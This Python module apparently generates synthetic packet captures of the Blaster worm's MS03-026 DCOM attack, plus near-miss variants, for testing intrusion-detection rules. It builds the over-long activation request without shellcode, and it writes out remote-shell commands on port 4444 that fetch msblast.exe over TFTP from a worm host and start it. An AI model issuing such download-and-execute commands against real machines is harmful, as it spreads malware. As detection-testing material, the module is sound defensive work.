"""Blaster: the DCOM request of MS03-026 with an over-long server name and no code, its TFTP and its shell."""

from __future__ import annotations

import uuid

from captures.dcerpc import bind, bind_ack, call, string
from captures.nimda import read_request
from captures.tape import OTHER, VICTIM, WORM, Capture, Host, Tape

ACTIVATION = uuid.UUID("000001a0-0000-0000-c000-000000000046")  # ISystemActivator
RESOLVER = uuid.UUID("99fcfec4-5260-101b-bbcb-00aa0021347a")  # IObjectExporter
CREATE_INSTANCE = 4
LONG_NAME = "FXNBFXFXNBFXFXFX" * 9  # 144 characters
FILE = "C$\\123456111111111111111.doc"


def activation(server: str, file: str) -> bytes:
    """Return the arguments: a header, an object of marshalled interfaces, and the name of a file on a server."""
    return bytes(48) + b"MEOW" + bytes(84) + string(f"\\\\{server}\\{file}") + bytes(16)


def attack(
    tape: Tape,
    stub: bytes,
    interface: uuid.UUID = ACTIVATION,
    operation: int = CREATE_INSTANCE,
    is_bound: bool = True,
    cuts: tuple[int, ...] = (),
    source: Host = WORM,
) -> None:
    session = tape.session(source, VICTIM, 135)
    if is_bound:
        session.send(bind(interface, 0))
        session.reply(bind_ack())
    session.send(call(operation, stub), cuts)
    session.close()


def shell(tape: Tape, port: int, command: bytes, said: bytes = b"") -> None:
    session = tape.session(WORM, VICTIM, port)
    session.reply(b"C:\\WINNT\\system32>")
    session.send(command)
    session.reply(said or command)
    session.close()


def fires(tape: Tape) -> None:
    attack(tape, activation(LONG_NAME, FILE), cuts=(460,))
    tape.udp(VICTIM, 1030, WORM, 69, read_request(b"msblast.exe"))
    shell(tape, 4444, b"tftp -i 10.20.0.66 GET msblast.exe\n")
    shell(tape, 4444, b"start msblast.exe\n")


def near_miss(tape: Tape) -> None:
    attack(tape, activation("FILESRV01", "C$\\report.doc"), source=OTHER)
    attack(tape, activation(LONG_NAME[:120], FILE.replace("6", "5")))
    attack(tape, activation(LONG_NAME, FILE), interface=RESOLVER)
    attack(tape, activation(LONG_NAME, "C$\\report.doc"), operation=3)
    attack(tape, activation(LONG_NAME, FILE), is_bound=False)
    attack(tape, activation(LONG_NAME, FILE).replace(b"MEOW", b"WOEM"))
    tape.udp(VICTIM, 1030, WORM, 69, read_request(b"msblast.txt"))
    tape.udp(VICTIM, 69, WORM, 1030, read_request(b"msblast.exe"))
    shell(tape, 4445, b"start msblast.exe\n")
    shell(tape, 4444, b"del msblast.exe.bak\n", said=b"msblast.exe\n")


CAPTURES = (
    Capture(
        10,
        "blaster.pcap",
        "the DCOM exploit in two segments, of which the first holds the name and the second the file; TFTP; the shell",
        "a bind to ISystemActivator and a call of opnum 4 with a name of 144 letters, no code; one UDP datagram; two "
        "sessions on port 4444",
        {1000302: 1, 1000303: 1, 1000304: 1, 1000305: 2},
        fires,
    ),
    Capture(
        20,
        "blaster_near_miss.pcap",
        "an honest activation; a name of 120 letters and another file; another interface; another operation and file; "
        "no bind; an object of another kind; another file by TFTP, and from port 69; the shell on port 4445; another "
        "command, and an answer that names the worm",
        "as blaster.pcap, one condition off each",
        {},
        near_miss,
    ),
)
